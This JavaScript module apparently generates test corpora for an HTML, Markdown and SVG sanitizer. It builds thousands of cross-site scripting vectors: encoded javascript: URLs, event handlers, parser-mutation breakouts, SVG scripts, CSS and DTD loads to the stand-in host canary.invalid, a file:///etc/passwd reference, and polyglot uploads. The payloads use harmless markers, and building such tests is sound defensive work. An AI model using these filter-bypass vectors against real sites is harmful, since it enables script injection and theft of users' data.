// Content that wants to run or to load something, made from classes: what is inserted times where and how it is written.
// Every payload that runs sets `pwned` on its window, and every address leads to `canary.invalid`.

const RUN = 'window.pwned=1';
const HOST = 'https://canary.invalid';

/** Ways to write a word so that filters which compare letters do not see it. */
const DISGUISES = [
  (it) => it,
  (it) => it.toUpperCase(),
  (it) => it[0].toUpperCase() + it.slice(1),
  (it) => `&#${it.charCodeAt(0)};${it.slice(1)}`,
  (it) => `&#x${it.charCodeAt(0).toString(16)}${it.slice(1)}`,
  (it) => `${it[0]}\t${it.slice(1)}`,
  (it) => `${it[0]}&NewLine;${it.slice(1)}`,
  (it) => `\u0001${it}`,
  (it) => ` ${it}`,
];

const SCHEMES = ['javascript:', 'vbscript:', 'data:text/html,', 'data:image/svg+xml,', 'view-source:javascript:', 'blob:'];

/** @returns {string[]} Raw HTML for Markdown documents; each is one block. */
export function htmlPayloads() {
  const found = [];
  const script = `<script>${RUN}</script>`;
  const address = (scheme) => (scheme.startsWith('data:') ? scheme + script : scheme + RUN);
  // Addresses, in every attribute that takes one.
  const carriers = [
    (it) => `<a href="${it}">x</a>`,
    (it) => `<a href='${it}'>x</a>`,
    (it) => `[x](<${it.replaceAll('<', '%3C').replaceAll('>', '%3E')}>)`,
    (it) => `<iframe src="${it}"></iframe>`,
    (it) => `<img src="${it}">`,
    (it) => `<form action="${it}"><button>x</button></form>`,
    (it) => `<object data="${it}"></object>`,
  ];
  for (const scheme of SCHEMES) for (const disguise of DISGUISES) for (const carrier of carriers) found.push(carrier(disguise(address(scheme))));
  // Handlers, on elements that stay and elements that go, with every separator between them.
  const handlers = ['onload', 'onerror', 'onclick', 'onfocus autofocus tabindex=0', 'ontoggle open', 'onanimationstart', 'onpointerover', 'onbegin'];
  const elements = ['img src=x', 'details', 'p', 'a href=#x', 'table', 'td', 'summary', 'svg', 'body', 'input', 'video src=x', 'marquee', 'math'];
  for (const element of elements) {
    for (const handler of handlers) {
      const [name, ...rest] = handler.split(' ');
      found.push(`<${element} ${name}="${RUN}" ${rest.join(' ')}>x`);
      if (handler === 'onerror') for (const gap of ['/', '\n', '\f', '/x/', '"', "'"]) found.push(`<${element}${gap}${name}=${RUN}>x`);
    }
  }
  // Elements that run or load by themselves, in every case, unfinished, nested and split.
  const active = [
    script,
    `<script src="${HOST}/x.js"></script>`,
    `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe>`,
    `<embed src="${HOST}/x">`,
    `<link rel="stylesheet" href="${HOST}/x.css">`,
    `<style>@import "${HOST}/x.css"; * { background: url(${HOST}/y) }</style>`,
    `<meta http-equiv="refresh" content="0;url=${HOST}">`,
    `<base href="${HOST}/">`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x></animate></svg>`,
    `<svg><foreignObject>${script}</foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<math href="javascript:${RUN}">x</math>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<title><img src=x onerror=${RUN}></title><img src=x onerror=${RUN}>`,
    `<textarea></textarea><img src=x onerror=${RUN}>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<video><source onerror=${RUN} src=x></video>`,
    `<audio src=x onerror=${RUN}></audio>`,
    `<select><style></select><img src=x onerror=${RUN}></style></select>`,
    `<object type="text/html" data="data:text/html,${script}"></object>`,
    `<isindex action="javascript:${RUN}">`,
    `<p style="background: url(${HOST}/z)">x</p>`,
    `<img srcset="${HOST}/s 1x" src="${HOST}/t">`,
    `<picture><source srcset="${HOST}/u"><img src="x.png"></picture>`,
    `<video poster="${HOST}/v" src="${HOST}/w"></video>`,
    `<a href="x" ping="${HOST}/p">x</a>`,
    `<input type=image src="${HOST}/i">`,
    `<table background="${HOST}/b"><tr><td background="${HOST}/c">x</td></tr></table>`,
  ];
  const forms = [
    (it) => it,
    (it) => it.toUpperCase().replaceAll('WINDOW.PWNED', 'window.pwned').replaceAll('JAVASCRIPT:', 'javascript:'),
    (it) => `<<${it.slice(1)}`,
    (it) => `<div><p>${it}`,
    (it) => `<!-- --!>${it}<!-- -->`,
    (it) => `text ${it} text`,
    (it) => it.replace('>', ' x=">">'),
    (it) => it.replace('<', '<\u0000'),
    (it) => `<![CDATA[>${it}]]>`,
    (it) => `<?x >${it}?>`,
  ];
  for (const it of active) for (const form of forms) found.push(form(it));
  // Markdown that becomes attributes.
  const breakers = ['"', "'", '&quot;', '\\"', '`', '&#34;'];
  for (const it of breakers) {
    found.push(`[x](y "a${it} onmouseover=${RUN} b")`, `![a${it} onerror=${RUN} b](x.png)`, `## x {#a${it} onclick=${RUN}}`);
    found.push(`\`\`\`js${it} onclick=${RUN}\nx\n\`\`\``, `[x${it} onclick=${RUN}]: y`, `<https://a.example/${it}onclick=${RUN}>`);
  }
  // Ids and names that scripts of the page look up.
  for (const it of ['aw-search', 'aw-search-page', 'aw-main', 'aw-said', 'aw-list', 'afterword', 'AfterwordSearch', 'body', 'dataset']) {
    found.push(`## ${it} {#${it}}`, `<form id="${it}" name="${it}"><input name="dataset" id="interface"></form>`, `<a id="${it}" name="${it}" href="javascript:${RUN}">x</a>`);
  }
  return found;
}

/** @returns {{name: string, bytes: Buffer}[]} Drawings. */
export function svgPayloads() {
  const found = [];
  const add = (text, bytes = Buffer.from(text)) => found.push({ name: `d${found.length}`, bytes });
  const root = (inside, attributes = '', before = '') =>
    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${inside}<rect id="r" width="9" height="9"/></svg>`;
  // Handlers: on the root and inside, in every case, with a prefix, by an animation.
  for (const name of ['onload', 'ONLOAD', 'onLoad', 'xlink:onload', 'onfocus', 'onmouseover', 'onbegin', 'onactivate', 'onerror', 'on:load']) {
    add(root('', `${name}="${RUN}"`));
    add(root(`<g ${name}="${RUN}"/>`));
    add(root(`<image href="x" ${name}="${RUN}"/>`));
    add(root(`<animate attributeName="x" dur="1s" ${name}="${RUN}"/>`));
  }
  // Scripts in every vocabulary and by every reference.
  for (const script of [
    `<script>${RUN}</script>`,
    `<script><![CDATA[${RUN}]]></script>`,
    `<script>&#119;indow.pwned=1</script>`,
    `<script href="${HOST}/a.js"/>`,
    `<script xlink:href="${HOST}/a.js"/>`,
    `<script href="data:text/javascript,${RUN}"/>`,
    `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`,
    `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`,
    `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
  ]) {
    for (const wrap of [(it) => it, (it) => `<g>${it}</g>`, (it) => `<defs>${it}</defs>`, (it) => `<switch>${it}</switch>`, (it) => `<title>${it}</title>`]) add(root(wrap(script)));
  }
  // Pages inside of drawings.
  for (const page of [`<script>${RUN}</script>`, `<img src="x" onerror="${RUN}"/>`, `<iframe src="javascript:${RUN}"/>`, `<iframe src="${HOST}"/>`, `<embed src="${HOST}"/>`, `<link rel="stylesheet" href="${HOST}"/>`, `<meta http-equiv="refresh" content="0;url=${HOST}"/>`]) {
    add(root(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${page}</body></foreignObject>`));
    add(root(page.replace(/<(\w+)/, '<$1 xmlns="http://www.w3.org/1999/xhtml"')));
  }
  // References.
  for (const target of [`javascript:${RUN}`, `${HOST}/x`, `//canary.invalid/x`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`.replaceAll('<', '&lt;'), 'file:///etc/passwd']) {
    for (const element of ['use', 'image', 'a', 'feImage', 'textPath', 'pattern', 'linearGradient', 'mpath', 'tref', 'cursor', 'animate']) {
      add(root(`<filter id="f"><${element} href="${target}" xlink:href="${target}" width="9" height="9"><text y="9">x</text></${element}></filter><${element} href="${target}" width="9" height="9"><text y="9">x</text></${element}>`));
    }
  }
  for (const name of ['set', 'animate', 'animateTransform', 'animateMotion']) {
    for (const what of ['to', 'from', 'by', 'values']) add(root(`<a href="#r"><${name} attributeName="href" ${what}="javascript:${RUN}"/><text y="9">x</text></a>`));
  }
  // Styles that load.
  const styles = [
    `@import "${HOST}/a";`, `@import url(${HOST}/a);`, `@\\69mport "${HOST}/a";`, `@font-face { font-family: f; src: url(${HOST}/f) } text { font-family: f }`,
    `rect { fill: url(${HOST}/a#b) }`, `rect { fill: u\\72l(${HOST}/a#b) }`, `rect { fill: URL("${HOST}/a#b") }`, `rect { filter: url(${HOST}/a#b) }`,
    `svg { background: url(${HOST}/a) }`, `svg { background: image-set("${HOST}/a" 1x) }`, `svg { background: -webkit-image-set(url(${HOST}/a) 1x) }`, `svg { background: src("${HOST}/a") }`,
    `svg { cursor: url(${HOST}/a), auto }`, `svg { --x: url(${HOST}/a); background: var(--x) }`, `svg { list-style: url(${HOST}/a) }`, `rect::after { content: url(${HOST}/a) }`,
    `svg { background: cross-fade(url(${HOST}/a), red) }`, `rect { mask: url(${HOST}/a#m) }`, `svg { border-image: url(${HOST}/a) }`, `rect { -webkit-mask: url(${HOST}/a) }`,
    `/* */ @media all { svg { background: url(${HOST}/a) } }`, `svg { background: url(\n${HOST}/a) }`, `@namespace url(${HOST}/a);`, `@property --x { syntax: "<image>"; inherits: false; initial-value: url(${HOST}/a) }`,
  ];
  for (const style of styles) {
    const escaped = style.replaceAll('<', '&lt;');
    for (const it of [escaped, `<![CDATA[${style}]]>`, `<x/>${escaped}`, `<!-- -->${escaped}`, escaped.replace('url', '&#117;rl').replace('@', '&#64;')]) add(root(`<style>${it}</style><text y="9">x</text>`));
    const declarations = /\{([^{}]*)\}/.exec(escaped)?.[1];
    if (declarations) add(root(`<g style='${declarations.replaceAll("'", '')}'><text y="9">x</text></g>`));
  }
  for (const name of ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor', 'style', 'color-profile']) add(root(`<rect width="9" height="9" ${name}="url(${HOST}/a#b)"/>`));
  // Declarations, entities and encodings that a browser reads and a filter may not.
  add(root('', '', `<?xml-stylesheet href="${HOST}/a.css"?>`));
  add(root('', '', `<?xml-stylesheet type="text/xsl" href="${HOST}/a.xsl"?>`));
  add(root('&x;', '', `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>${RUN}</script>">]>`));
  add(root('', '', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>`));
  add(root('', '', `<!DOCTYPE svg SYSTEM "${HOST}/a.dtd">`));
  add(root('', '', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${HOST}/a.dtd">%x;]>`));
  for (const encoding of ['ISO-2022-JP', 'ISO-2022-KR', 'UTF-7', 'UTF-16', 'GBK', 'Big5', 'x-user-defined', 'windows-1252', 'hz-gb-2312', 'EUC-JP', 'Shift_JIS', 'cp037', 'ISO-10646-UCS-2']) {
    add(root(`<text>\u001b(J</text><g title="\u001b$B" data-x="\u001b(B onload=${RUN} "/>`, `onload="${RUN}"`, `<?xml version="1.0" encoding="${encoding}"?>`));
  }
  const plain = root('', `onload="${RUN}"`);
  add('', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(plain, 'utf16le')]));
  add('', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(plain, 'utf16le').swap16()]));
  add('', Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${plain}`, 'utf16le'));
  add(`\ufeff${plain}`);
  add(`<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`);
  add(`<!DOCTYPE html><script>${RUN}</script>`);
  add(`${plain}<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`);
  add(`<!-- ${plain} --${'>'}${root('<g/>')}<!-- > ${plain}`);
  return found;
}

/** @returns {{name: string, bytes: Buffer}[]} A page under every ending, each of which would run where a browser takes it for one. */
export function attachmentPayloads() {
  const page = `<!DOCTYPE html><html><body><script>${RUN}</script><img src="${HOST}/x"></body></html>`;
  const xml = `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${RUN}</h:script></x>`;
  const endings =
    'png apng jpg jpeg jfif gif webp avif svg pdf txt csv json log out text tsv jsonl ndjson yaml yml toml ini conf diff patch sql trace zip gz tgz bz2 tbz2 xz txz zst tar 7z ' +
    'html htm shtml shtm xhtml xht mht mhtml svgz xml xsl xslt xsd rng xpdl rdf rss atom wsdl js mjs css swf wasm hta md pht php asp jsp cgi exe sh drawio bin unknown';
  return endings.split(' ').flatMap((ending) => [
    { name: `page.${ending}`, bytes: Buffer.from(page) },
    { name: `xml.${ending}`, bytes: Buffer.from(xml) },
    { name: `upper.${ending.toUpperCase()}`, bytes: Buffer.from(`GIF89a/*${page}*/`) },
  ]);
}

/** @returns {string[]} Values of front matter: what ends the place that a page holds a value in, times what runs there. */
export function valuePayloads() {
  const breakers = ['', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</template>', '</xmp>', '-->', ']]>', '</svg>', '</math>', '{{ x }}', '\\"', '`', '%22%3E', '&quot;&gt;', '\u2028', '</option></select>'];
  const vectors = [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<svg onload=${RUN}>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
    `<a href="javascript:${RUN}" ping="${HOST}">x</a>`,
    `<form action="${HOST}" id=aw-search><input name=dataset></form>`,
    `<meta http-equiv=refresh content="0;url=${HOST}">`,
    `<base href="${HOST}/">`,
    `<link rel=stylesheet href="${HOST}/x.css">`,
    `<style>@import "${HOST}/x.css";</style>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<!--<img src=x onerror=${RUN}>`,
    `<details open ontoggle=${RUN}>x`,
    `x onmouseover=${RUN} autofocus onfocus=${RUN} y=`,
    `javascript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `java\tscript:${RUN}`,
    `<button form=aw-search formaction="javascript:${RUN}">x</button>`,
  ];
  return breakers.flatMap((breaker) => vectors.map((vector) => breaker + vector));
}
